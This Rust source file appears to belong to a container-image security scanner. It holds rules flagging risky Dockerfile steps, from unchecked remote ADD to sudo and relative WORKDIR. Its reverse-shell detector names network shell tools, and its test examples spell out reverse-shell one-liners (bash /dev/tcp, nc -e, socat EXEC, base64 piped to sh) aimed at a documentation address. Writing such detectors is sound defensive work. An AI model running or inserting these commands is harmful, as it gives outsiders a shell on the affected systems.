//! What does not belong into an image or its build: a row each.
//!
//! In: instructions. Source: CIS Docker 4.9; Dockle DKL-DI-0001; the Dockerfile reference.

use plimsoll_model::Level;

use super::{
    StepRisk, about,
    commands::{Tool, tools},
};
use crate::{
    check::{About, Example},
    facts::clip,
    history::{Instruction, Word, shell_words},
};

const ARCHIVES: &[&str] =
    &[".tar", ".tar.gz", ".tgz", ".tar.bz2", ".tbz2", ".tar.xz", ".txz", ".tar.zst"];

/// Sources and target of an ADD.
fn added(step: &Instruction) -> Vec<String> {
    let text = step.text.replace(['[', ']', ','], " ");
    shell_words(&text).into_iter().filter(|word| !word.starts_with("--")).collect()
}

fn is_remote(source: &str) -> bool {
    ["http://", "https://", "git://", "git@", "ssh://"]
        .iter()
        .any(|start| source.starts_with(start))
}

pub(crate) static ADD: StepRisk = StepRisk {
    about: &About {
        title: "ADD in the place of COPY",
        why: "ADD unpacks archives and follows URLs, so what lands in the image is not what the line says",
        remedy: "use COPY",
        source: "Alibaba Cloud build risks; CIS Docker 4.9; Dockle CIS-DI-0009",
        ..about("add", "other", Level::Medium)
    },
    finds: |step| {
        let words = added(step);
        let Some((_, sources)) = words.split_last() else { return Vec::new() };
        // The classic builder shows a hash: `file:1234… in /app`.
        let sources: Vec<&String> = sources.iter().filter(|word| *word != "in").collect();
        let is_archive = |source: &&&String| {
            let lower = source.to_ascii_lowercase();
            ARCHIVES.iter().any(|end| lower.ends_with(end))
        };
        if step.word != Word::Add
            || step.is_root_import()
            || sources.iter().all(|one| is_archive(&one) || is_remote(one))
        {
            return Vec::new();
        }
        vec![clip(&format!("ADD {}", step.text))]
    },
    examples: &[
        Example::fails("ADD . /app")
            .history(&["ADD rootfs.tar.xz / # buildkit", "ADD . /app # buildkit"]),
        Example::fails("ADD file:1234 in /app/").history(&[
            "/bin/sh -c #(nop) ADD file:0000 in / ",
            "/bin/sh -c #(nop) ADD file:1234 in /app/ ",
        ]),
        Example::passes().history(&[
            "/bin/sh -c #(nop) ADD file:0000 in / ",
            "ADD app.tar.gz /opt/ # buildkit",
            "COPY . /app # buildkit",
        ]),
    ],
};

pub(crate) static ADD_REMOTE: StepRisk = StepRisk {
    about: &About {
        title: "ADD from the network without a checksum",
        why: "whoever changes the file on its server changes the image",
        remedy: "give `--checksum`, or fetch it in a RUN and compare the checksum",
        source: "Dockerfile reference, ADD --checksum",
        ..about("add_remote", "other", Level::Medium)
    },
    finds: |step| {
        if step.word != Word::Add || step.text.contains("--checksum=") {
            return Vec::new();
        }
        let words = added(step);
        let remote = words.iter().find(|word| is_remote(word));
        remote
            .map(|source| {
                let masked = crate::baseline::secret_words::masked_url(source);
                clip(&format!("ADD {}", masked.as_deref().unwrap_or(source)))
            })
            .into_iter()
            .collect()
    },
    examples: &[
        Example::fails("ADD https://h.example/a")
            .history(&["ADD https://h.example/a /a # buildkit"]),
        Example::fails("ADD git@h.example:a.git")
            .history(&["ADD --keep-git-dir=true git@h.example:a.git /a"]),
        Example::passes().history(&[
            "ADD --checksum=sha256:abc https://h.example/a /a # buildkit",
            "COPY https.txt /a",
        ]),
    ],
};

pub(crate) static SUDO_IN_RUN: StepRisk = StepRisk {
    about: &About {
        title: "sudo in the build",
        why: "a build runs as the account that USER names; sudo in the image lets others become root later",
        remedy: "switch with USER, and leave sudo out of the image",
        source: "Dockle DKL-DI-0001",
        ..about("sudo_in_run", "other", Level::Low)
    },
    finds: |step| {
        if step.word != Word::Run {
            return Vec::new();
        }
        let uses = step.commands().iter().any(|command| {
            let mut words = command.iter().filter(|word| !word.contains('='));
            words.next().is_some_and(|word| word.rsplit('/').next() == Some("sudo"))
        });
        let installs = |tool: &Tool| tool.is_install() && tool.has("sudo");
        if uses {
            vec!["runs sudo".to_owned()]
        } else if tools(step).iter().any(installs) {
            vec!["installs sudo".to_owned()]
        } else {
            Vec::new()
        }
    },
    examples: &[
        Example::fails("runs sudo").history(&["RUN cd /x && sudo make install"]),
        Example::fails("installs sudo").history(&[
            "RUN apt-get update && apt-get install -y curl sudo && rm -rf /var/lib/apt/lists/*",
        ]),
        Example::passes().history(&["RUN echo sudo && rm /etc/sudoers"]),
    ],
};

pub(crate) static RELATIVE_WORKDIR: StepRisk = StepRisk {
    about: &About {
        title: "WORKDIR is not an absolute path",
        why: "where it leads depends on the base image, and files land elsewhere when that changes",
        remedy: "write the whole path",
        source: "Dockerfile reference, WORKDIR",
        ..about("relative_workdir", "other", Level::Low)
    },
    finds: |step| {
        let path = step.text.trim_matches(['"', '\'']);
        let is_absolute = path.starts_with(['/', '$', '\\'])
            || path.get(1..3) == Some(":\\")
            || path.get(1..3) == Some(":/");
        if step.word != Word::Workdir || is_absolute || path.is_empty() {
            return Vec::new();
        }
        vec![clip(&format!("WORKDIR {path}"))]
    },
    examples: &[
        Example::fails("WORKDIR app").history(&["WORKDIR app"]),
        Example::passes().history(&[
            "WORKDIR /app",
            "/bin/sh -c #(nop) WORKDIR $HOME/x",
            "WORKDIR C:\\app",
        ]),
    ],
};

fn shells(step: &Instruction) -> Vec<String> {
    if !matches!(step.word, Word::Run | Word::Known | Word::Healthcheck) {
        return Vec::new();
    }
    let lower = step.text.to_ascii_lowercase();
    let mut found = Vec::new();
    // Health checks ask the container's own port.
    let is_own = |host: &str| host.starts_with("localhost") || host.starts_with("127.");
    let hosts = lower.split("/dev/tcp/").skip(1).chain(lower.split("/dev/udp/").skip(1));
    if hosts.into_iter().any(|host| !is_own(host)) {
        found.push("/dev/tcp of the shell".to_owned());
    }
    if lower.contains("bash -i >&") || lower.contains("sh -i >&") || lower.contains("sh -i <&") {
        found.push("an interactive shell of the network".to_owned());
    }
    let commands = step.commands();
    for (position, command) in commands.iter().enumerate() {
        let Some((name, words)) = super::password_in_run::program(command) else { continue };
        let has = |wanted: &[&str]| words.iter().any(|word| wanted.contains(&word.as_str()));
        match name {
            "nc" | "ncat" | "netcat" | "nc.traditional"
                if has(&["-e", "-c", "--exec", "--sh-exec"])
                    || words.iter().any(|word| {
                        word.starts_with('-') && !word.starts_with("--") && word.ends_with('e')
                    }) =>
            {
                found.push(format!("{name} -e"));
            }
            "socat"
                if words.iter().any(|word| {
                    let lower = word.to_ascii_lowercase();
                    lower.starts_with("exec:") || lower.starts_with("system:")
                }) =>
            {
                found.push("socat exec:".to_owned())
            }
            "base64" | "openssl" if has(&["-d", "--decode", "-D"]) => {
                let next = commands
                    .get(position + 1)
                    .and_then(|next| super::password_in_run::program(next));
                if next.is_some_and(|(name, words)| {
                    matches!(name, "sh" | "bash" | "ash" | "dash")
                        && words.iter().all(|word| word.starts_with('-') && word != "-c")
                }) {
                    found.push("a shell runs what base64 hides".to_owned());
                }
            }
            _ => {}
        }
    }
    found
}

pub(crate) static REVERSE_SHELL: StepRisk = StepRisk {
    about: &About {
        title: "The build opens a shell to the network",
        why: "somebody else controls the build, and what comes of it",
        remedy: "do not use the image; find out who wrote the line, and rebuild from a clean base",
        source: "veinmind-tools",
        ..about("reverse_shell", "other", Level::High)
    },
    finds: shells,
    examples: &[
        Example::fails("/dev/tcp of the shell")
            .history(&["RUN bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"]),
        Example::fails("nc -e").history(&["/bin/sh -c nc -e /bin/sh 203.0.113.1 4444"]),
        Example::fails("socat exec:").history(&["RUN socat TCP:203.0.113.1:1 EXEC:/bin/sh"]),
        Example::fails("base64 hides").history(&["RUN echo aWQK | base64 -d | sh"]),
        Example::passes().history(&[
            "HEALTHCHECK &{[\"CMD-SHELL\" \"exec 3<>/dev/tcp/127.0.0.1/80\"]}",
            "RUN nc -z db 5432 && base64 -d key > /x && bash -c true",
            "COPY dev/tcp /dev/x",
            "RUN echo aWQK | base64 -d > /x; sh /x.sh",
        ]),
    ],
};
